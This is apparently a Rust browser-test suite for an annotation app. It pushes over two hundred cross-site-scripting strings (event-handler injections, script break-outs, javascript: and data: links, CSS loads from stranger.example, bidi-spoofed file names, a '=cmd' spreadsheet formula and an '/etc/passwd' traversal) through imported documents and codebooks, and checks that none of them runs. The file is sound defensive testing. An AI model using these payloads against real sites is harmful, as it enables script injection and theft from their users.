//! Whatever comes in with files is shown as the letters it is: nothing of it runs, nothing of it loads.

use std::fmt::Write;

use serde_json::{Value, json};

use crate::harness::{Browser, By, Folder, Page};

/// Strings of our own that would run or load something, were they ever parsed: more than two hundred.
fn strings() -> Vec<String> {
    let mut all = Vec::new();
    let run = "window.__ran=1";
    let handlers = [
        "onerror",
        "onload",
        "onclick",
        "onfocus",
        "onmouseover",
        "ontoggle",
        "onanimationstart",
        "onpointerenter",
    ];
    let elements = [
        "img src=x",
        "svg",
        "body",
        "details open",
        "iframe src=/stranger",
        "video src=x",
        "input autofocus",
        "math",
        "marquee",
        "a href=x",
        "object data=x",
        "style",
    ];
    for element in elements {
        all.extend(handlers.map(|handler| format!("<{element} {handler}={run}>")));
    }
    let ways_out = [
        "",
        "\">",
        "'>",
        "</title>",
        "</textarea>",
        "</style>",
        "-->",
        "</script>",
        "]]>",
        "`>",
        "\\\">",
        "&quot;>",
    ];
    let scripts = [
        format!("<script>{run}</script>"),
        format!("<ScRiPt >{run}</sCrIpT>"),
        "<script src=//stranger.example/x.js></script>".to_owned(),
        "<link rel=stylesheet href=//stranger.example/x.css>".to_owned(),
        "<meta http-equiv=refresh content=0;url=//stranger.example>".to_owned(),
        format!("<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>{run}"),
    ];
    for way_out in ways_out {
        all.extend(scripts.iter().map(|script| format!("{way_out}{script}")));
    }
    for scheme in
        ["javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:", "blob:", "file:///"]
    {
        all.push(format!("{scheme}{run}"));
        all.push(format!("[click]({scheme}{run})"));
        all.push(format!("![image]({scheme}{run})"));
        all.push(format!("<a href=\"{scheme}{run}\">x</a>"));
    }
    for css in [
        "url(//stranger.example/x)",
        "expression(window.__ran=1)",
        "\\75rl(//stranger.example)",
        "};*{background:url(//stranger.example)}",
        "@import '//stranger.example'",
    ] {
        all.push(css.to_owned());
        all.push(format!("red;background:{css}"));
    }
    for mark in [
        '\u{202A}', '\u{202B}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{200B}',
        '\u{200F}', '\u{FEFF}',
    ] {
        all.push(format!("a{mark}gpj.exe"));
    }
    all.extend(
        [
            "${window.__ran=1}",
            "{{constructor.constructor('window.__ran=1')()}}",
            "=cmd|'/c calc'!A1",
            "%3Cscript%3E",
            "&#60;script&#62;",
            "\u{FF1C}script\u{FF1E}",
            "__proto__",
            "constructor",
            "../../../etc/passwd",
            "con",
        ]
        .map(str::to_owned),
    );
    all
}

/// A document that carries a string wherever a document can carry one.
fn carrier(number: usize, text: &str) -> Value {
    let id = |kind: u32| format!("{kind:08x}-0000-7000-8000-{number:012x}");
    let length = text.chars().count();
    json!({
        "format": "rubricator/1", "offset_unit": "code_point", "id": id(1), "title": text, "text": format!("{text}\n"),
        "language": text, "annotator": text, "unknown": text, text: text,
        "meta": { "source": text, "author": text, "published": text, "url": text },
        "spans": [{ "id": id(2), "label": if number.is_multiple_of(9) { text } else { "actor" }, "start": 0, "end": length,
            "text": text, "note": text, "annotator": text, "actor": id(3), "attributes": { text: text } }],
        "relations": [{ "id": id(4), "type": if number.is_multiple_of(9) { text } else { "made_by" }, "from": id(2),
            "to": id(3), "to_kind": "actor", "note": text, "attributes": { text: text } }],
        "actors": [{ "id": id(3), "name": text, "kind": text, "aliases": [text], "wikidata": text, "note": text }],
    })
}

fn assert_harmless(page: &Page) {
    let found: Vec<String> = page.read(
        "const found = [];
         if (window.__ran) found.push('something ran');
         for (const one of document.querySelectorAll('*')) {
             if (['IFRAME', 'OBJECT', 'EMBED', 'VIDEO', 'MARQUEE', 'BASE'].includes(one.tagName)) found.push(one.outerHTML);
             for (const { name, value } of one.attributes) {
                 if (name.startsWith('on')) found.push(`${one.tagName} ${name}`);
                 if (/^(src|href|action)$/.test(name) && !/^(\\.?\\/|https?:|#|[a-z0-9_.-]+$)/i.test(value)) found.push(`${name}=${value}`);
             }
         }
         return found",
    );
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn nothing_that_comes_in_runs_or_loads() {
    let strings = strings();
    assert!(200 <= strings.len(), "{}", strings.len());
    let mut lines = String::new();
    for (number, string) in strings.iter().enumerate() {
        writeln!(lines, "{}", carrier(number, string)).unwrap();
    }
    let folder = Folder::new();
    let file = folder.write("<img src=x onerror=window.__ran=1>.jsonl", lines);
    Browser::default().patient(30).run(|page| {
        page.create_project("<img src=x onerror=window.__ran=1>");
        let (summary, _) = page.import(&[file]);
        assert!(summary.contains("documents came in"), "{summary}");
        page.wait_ready();
        assert_harmless(page);
        // Document after document, with the card of its annotation and the list of candidates.
        for _ in 0..40 {
            page.go_to_text();
            page.press(&["Tab", "i"]);
            assert_harmless(page);
            page.press(&["Escape", "Escape", "j"]);
            page.wait_ready();
        }
        page.button("About this document").click();
        page.wait_there("dialog[open]");
        assert_harmless(page);
        page.press(&["Escape"]);
        page.wait_gone("dialog[open]");
        page.open_projects();
        assert_harmless(page);
        page.press(&["Escape"]);
        page.wait_gone("dialog[open]");
        // Pasted text, markup on the clipboard included.
        page.button("Import").click();
        page.wait_there("dialog[open]");
        page.press(&["Escape"]);
        page.wait_gone("dialog[open]");
        assert_harmless(page);
    });
}

/// A codebook that carries the strings wherever a codebook can carry one, with guidelines of all of them.
fn codebook(strings: &[String]) -> Value {
    let labels: Vec<Value> = strings
        .iter()
        .enumerate()
        .map(|(number, text)| {
            let name = format!("{number} {text}");
            json!({ "key": format!("l{number}"), "name": name, "short": name, "colour": "#2f855a",
                "description": text, "examples": [text],
                "attributes": [{ "key": "a", "name": name, "kind": "choice",
                    "choices": [{ "key": "c", "name": name, "code": text, "description": text, "examples": [text] }] }] })
        })
        .collect();
    let guidelines: String =
        strings.iter().fold(String::new(), |all, text| format!("{all}## {text}\n\n{text}\n\n"));
    json!({ "format": "rubricator-codebook/1", "name": strings[0], "guidelines": guidelines,
        "codebook": { "version": 1, "labels": labels } })
}

#[test]
fn nothing_in_a_codebook_guidelines_or_a_registry_runs_or_loads() {
    let strings = strings();
    let file_name = "<img src=x onerror=window.__ran=1>.json";
    let folder = Folder::new();
    let book = folder.write(file_name, codebook(&strings).to_string());
    let mut lines = String::new();
    for (number, string) in strings.iter().enumerate() {
        writeln!(lines, "{}", carrier(number, string)).unwrap();
    }
    let lines = folder.write("articles.jsonl", lines);
    Browser::default().patient(30).run(|page| {
        page.create_project("Coded");
        page.import(&[lines]);
        page.wait_ready();
        page.go_to_text();
        page.press(&["g", "c"]);
        page.find(By::role("file", "Take a codebook in from a file")).choose(&[book]);
        page.find(By::role("heading", "Take this codebook in?"));
        assert_harmless(page);
        page.find(By::role("checkbox", "Take its guidelines in the place of those that are here")).click();
        page.button("Take in").click();
        page.wait_gone("dialog[open]");
        page.wait(
            &format!("return document.querySelectorAll('.codebook-list .entry').length >= {}", strings.len()),
            "the labels are there",
        );
        assert_harmless(page);
        // Entry after entry in its panel, some of them, and the guidelines with all of the strings.
        for at in (0..strings.len()).step_by(12) {
            let script = "[...document.querySelectorAll('nav [aria-label=Labels] .entry')][arguments[0]].click()";
            let () = page.read_with(script, &[json!(at)]);
            page.wait_there(".codebook-side #label-name");
            assert_harmless(page);
        }
        let () = page.read("[...document.querySelectorAll('nav .entry')].find((one) => one.innerText.trim() === 'Guidelines').click()");
        page.wait_there(".guidelines .markdown p");
        let shown: usize = page.read("return document.querySelectorAll('.guidelines .markdown p').length");
        assert!(strings.len() / 2 < shown, "{shown} paragraphs are shown");
        assert_harmless(page);
        for screen in ["r", "s", "p"] {
            page.press(&["Escape", "Escape"]);
            page.wait_gone(".screen");
            page.go_to_text();
            page.press(&["g", screen]);
            page.wait_there(".screen");
            assert_harmless(page);
            if screen == "s" {
                for string in strings.iter().step_by(40) {
                    page.find(By::role("searchbox", "Search all documents")).rewrite(string);
                    assert_harmless(page);
                }
            }
        }
        page.press(&["Escape", "Escape"]);
        page.wait_gone(".screen");
        page.go_to_text();
        page.press(&["Tab", "h"]);
        page.wait_there(".guide .markdown");
        assert_harmless(page);
        page.press(&["Ctrl+k"]);
        page.wait_there("dialog[open]");
        page.type_words("<");
        assert_harmless(page);
    });
}

#[test]
fn addresses_lead_to_the_web_and_to_mailboxes_only_and_in_a_tab_that_learns_nothing() {
    let safe = ["https://paper.example/a?b=c#d", "HTTP://paper.example", "mailto:desk@paper.example"];
    let unsafe_ones =
        ["javascript:window.__ran=1", "data:text/html,<script>", "file:///etc/passwd", "paper.example"];
    let mut lines = String::new();
    for (number, url) in safe.iter().chain(&unsafe_ones).enumerate() {
        let line = json!({ "text": format!("Article {number}"), "title": format!("Article {number}"), "meta": { "url": url } });
        writeln!(lines, "{line}").unwrap();
    }
    Browser::default().run(|page| {
        page.create_project("Addresses");
        let folder = Folder::new();
        page.import(&[folder.write("addresses.jsonl", lines)]);
        for (number, url) in safe.iter().chain(&unsafe_ones).enumerate() {
            page.open_listed(&format!("Article {number}"));
            page.button("About this document").click();
            page.wait_there("dialog[open] form");
            let shown: String =
                page.read("return document.querySelector('dialog[open] input[inputmode=url]').value");
            assert_eq!(shown, *url);
            let links: Vec<[String; 4]> = page.read(
                "return [...document.querySelectorAll('dialog[open] a')].map((one) =>
                    [one.getAttribute('href'), one.target, one.rel, one.referrerPolicy])",
            );
            let wanted = ["_blank", "noreferrer noopener", "no-referrer"].map(str::to_owned);
            if safe.contains(url) {
                let [target, rel, policy] = wanted;
                assert_eq!(links, [[(*url).to_owned(), target, rel, policy]], "{url}");
            } else {
                assert!(links.is_empty(), "{url}: {links:?}");
            }
            page.press(&["Escape"]);
            page.wait_gone("dialog[open]");
        }
    });
}

#[test]
fn the_page_would_tell_if_something_ran_or_left() {
    Browser::default().run(|page| {
        // The guards of this suite are not blind: each of these is refused by the page and noticed.
        let refused: Vec<String> = page.read_later(
            "const done = arguments[0];
             const seen = [];
             document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
             const script = document.createElement('script');
             try { script.textContent = 'window.__ran = 1'; document.body.append(script); } catch { seen.push('append'); }
             try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.__ran=1>'); } catch { seen.push('html'); }
             // The driver's own scripts may evaluate strings; what runs later may not.
             setTimeout(() => { try { new Function('window.__ran = 1')(); } catch { seen.push('eval'); } });
             fetch('https://stranger.example/').catch(() => seen.push('fetch'));
             const image = new Image();
             image.src = 'https://stranger.example/x.png';
             setTimeout(() => done(seen.concat(window.__ran ? 'RAN' : [])), 500);",
            &[],
        );
        for wanted in ["html", "eval", "fetch", "connect-src", "img-src"] {
            assert!(refused.iter().any(|one| one == wanted), "{wanted} is refused: {refused:?}");
        }
        assert!(!refused.iter().any(|one| one == "RAN"), "{refused:?}");
        let noticed = page.problems();
        assert!(noticed.iter().any(|one| one.contains("content security policy")), "{noticed:?}");
        page.forgive_problems();
    });
}
